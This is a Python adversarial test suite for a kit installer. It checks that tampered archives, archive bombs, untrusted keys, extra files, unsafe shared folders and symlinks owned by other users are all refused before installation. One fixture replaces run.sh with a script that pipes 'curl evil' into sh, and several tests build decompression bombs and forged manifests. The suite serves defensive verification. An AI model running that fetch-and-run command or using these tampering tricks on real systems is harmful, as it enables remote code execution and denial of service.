"""Attacks on `install`: nothing that fails verification is installed (the runner checks exit 1
and the code; tests/test_install.py checks that the destination stays empty)."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import os
import shutil
import tarfile

from tests.adversarial.corpus import Argv, Workbench, attack

RUN_SH = "profiles/interactive/single-node-8gpu/run.sh"


def _retar(w: Workbench, replace: dict[str, bytes]) -> Argv:
    raw = io.BytesIO(gzip.decompress(w.archive().read_bytes()))
    out = io.BytesIO()
    with (
        tarfile.open(fileobj=raw, mode="r:") as src,
        tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as dst,
    ):
        for member in src.getmembers():
            if member.name in replace:
                member.size = len(replace[member.name])
                dst.addfile(member, io.BytesIO(replace[member.name]))
            else:
                dst.addfile(member, src.extractfile(member) if member.isfile() else None)
    bad = w.root / "tampered.kit.tar.gz"
    bad.write_bytes(gzip.compress(out.getvalue(), mtime=0))
    return ["install", bad, "--trust", w.trust, "--into", w.root / "kits"]


_EVIL_RUN_SH = b"#!/bin/sh\nexec /bin/sh -c 'curl evil | sh'\n"


@attack("KIT_FILE_CHANGED")
def install_archive_with_replaced_run_sh(w: Workbench) -> Argv:
    """Padded to the genuine size: the tar index admits it, the manifest hash refuses it."""
    size = (w.golden.kit / RUN_SH).stat().st_size
    return _retar(w, {RUN_SH: _EVIL_RUN_SH + b"#" * (size - len(_EVIL_RUN_SH) - 1) + b"\n"})


@attack("ARCHIVE_NOT_A_KIT")
def install_archive_with_a_resized_run_sh(w: Workbench) -> Argv:
    """Another size than the manifest lists: refused from the tar index, before extraction."""
    return _retar(w, {RUN_SH: _EVIL_RUN_SH})


def _bomb(w: Workbench, name: str, members: list[tuple[str, int]]) -> Argv:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for member, size in members:
            info = tarfile.TarInfo(member)
            info.size = size
            tar.addfile(info, io.BytesIO(bytes(size)) if size else None)
    bomb = w.root / name
    bomb.write_bytes(gzip.compress(out.getvalue(), compresslevel=9, mtime=0))
    return ["install", bomb, "--trust", w.trust, "--into", w.root / "kits"]


@attack("ARCHIVE_NOT_A_KIT")
def install_bomb_of_10000_empty_files(w: Workbench) -> Argv:
    """~60 KB of gzip that used to write 10,000 files into staging before the refusal."""
    return _bomb(w, "files.kit.tar.gz", [(f"f{i:05d}.txt", 0) for i in range(10_000)])


@attack("ARCHIVE_NOT_A_KIT")
def install_bomb_of_100_mib_of_zeros(w: Workbench) -> Argv:
    """~100 KB of gzip that used to write 100 MiB into staging before the refusal."""
    return _bomb(w, "zeros.kit.tar.gz", [(f"shard-{i}.bin", 25 * 1024 * 1024) for i in range(4)])


@attack("RECEIPT_UNTRUSTED_KEY")
def install_archive_trusting_another_key(w: Workbench) -> Argv:
    return ["install", w.archive(), "--trust", w.other_key.public, "--into", w.root / "kits"]


@attack("KIT_FILE_EXTRA")
def install_kit_folder_with_an_extra_file(w: Workbench) -> Argv:
    kit = w.kit()
    (kit / "profiles" / "interactive" / "sitecustomize.py").write_text("import os\n")
    return ["install", kit, "--trust", w.trust, "--into", w.root / "kits"]


@attack("INSTALL_DIR_UNSAFE", exit_code=4)
def install_into_a_folder_others_can_write(w: Workbench) -> Argv:
    """A shared, non-sticky --into lets another user swap the verified staging copy for their own
    before the final rename: refused before the archive is read."""
    into = w.root / "shared-kits"
    into.mkdir()
    into.chmod(0o777)
    return ["install", w.archive(), "--trust", w.trust, "--into", into]


@attack("INSTALL_TARGET_FOREIGN", exit_code=4)
def install_into_sticky_shared_folder_with_cotenant_genuine_copy(w: Workbench) -> Argv:
    """In a sticky shared --into, another user's NAME-VERSION holding the genuine bytes, read-only
    as install leaves it: still theirs to edit later, so never "already installed". (As root the
    copy is given to uid 65534; tests/test_install.py runs the same attack as that user.)"""
    into = w.root / "shared"
    into.mkdir()
    into.chmod(0o1777)
    planted = into / "kimi-k3-b300x8-1.0.0"
    shutil.copytree(w.golden.kit, planted)
    for path in sorted([planted, *planted.rglob("*")], key=lambda p: -len(p.parts)):
        if os.geteuid() == 0:
            os.chown(path, 65534, 65534)
        path.chmod(0o555 if path.is_dir() else 0o444)
    if os.geteuid() != 0:  # not root: our own writable-folder variant of the same refusal
        planted.chmod(0o755)
    return ["install", w.archive(), "--trust", w.trust, "--into", into]


@attack("RECEIPT_KIT_MISMATCH")
def install_bomb_with_its_own_manifest_and_a_foreign_genuine_receipt(w: Workbench) -> Argv:
    """The bomb's own MANIFEST.json lists its 4 x 25 MiB of zeros (so the index admits them
    against it) beside the genuine receipt of the real kit: the receipt is checked against the
    trusted key and MANIFEST.json against the receipt from the index, before extraction
    (tests/test_install_budget.py watches that nothing is written)."""
    members = [(f"shard-{i}.bin", 25 * 1024 * 1024) for i in range(4)]
    manifest = json.loads((w.golden.kit / "MANIFEST.json").read_bytes())
    zeros = hashlib.sha256(bytes(members[0][1])).hexdigest()
    manifest["files"] = [{"path": n, "sha256": zeros, "size": s} for n, s in members]
    documents = {
        "MANIFEST.json": json.dumps(manifest, separators=(",", ":"), sort_keys=True).encode(),
        "receipt.dsse.json": (w.golden.kit / "receipt.dsse.json").read_bytes(),
    }
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in documents.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        for name, size in members:
            info = tarfile.TarInfo(name)
            info.size = size
            tar.addfile(info, io.BytesIO(bytes(size)))
    bomb = w.root / "forged.kit.tar.gz"
    bomb.write_bytes(gzip.compress(out.getvalue(), compresslevel=9, mtime=0))
    return ["install", bomb, "--trust", w.trust, "--into", w.root / "kits"]


@attack("INSTALL_DIR_UNSAFE", exit_code=4)
def install_into_a_cotenant_link_to_ones_own_folder(w: Workbench) -> Argv:
    """In a sticky shared folder, ``into -> the operator's own folder``, the link owned by another
    user (uid 65534 as root): safe as resolved, but its owner can re-point it after the install.
    (tests/test_install.py makes the link as that user.)"""
    real = w.root / "kits"
    real.mkdir()
    shared = w.root / "shared"
    shared.mkdir()
    shared.chmod(0o1777)
    link = shared / "into"
    link.symlink_to(real)
    if os.geteuid() == 0:
        os.lchown(link, 65534, 65534)
    else:  # not root: a link in a group-writable folder, the same refusal by the same rule
        shared.chmod(0o777)
    return ["install", w.archive(), "--trust", w.trust, "--into", link]
